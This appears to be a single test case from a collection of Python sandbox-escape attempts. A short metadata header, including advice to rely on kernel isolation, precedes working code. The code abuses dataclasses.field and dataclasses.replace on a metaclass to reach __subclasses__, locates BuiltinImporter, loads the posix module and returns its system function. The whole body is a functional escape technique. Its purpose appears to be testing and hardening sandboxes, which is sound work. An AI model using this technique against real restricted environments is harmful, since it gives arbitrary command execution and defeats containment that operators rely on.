# title: Let a data class read attributes
# tries: Renames a field of a data class and copies a class as if it were an instance: the library reads __subclasses__, from where a loader of modules is found without any other private name.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import dataclasses

    field = dataclasses.field()
    field.name, field._field_type = "__sub" + "classes__", None

    class Outer(type):
        __dataclass_fields__ = {"any": field}

        def __new__(cls, *arguments, **copied):
            return super().__new__(cls, *arguments) if arguments else copied

    class Inner(type, metaclass=Outer):
        pass

    all_subclasses = dataclasses.replace(Inner)[field.name]
    for each in all_subclasses(object):
        if each.__name__ == "BuiltinImporter":
            return f"{each.create_module(each.find_spec('posix')).system} by a data class"
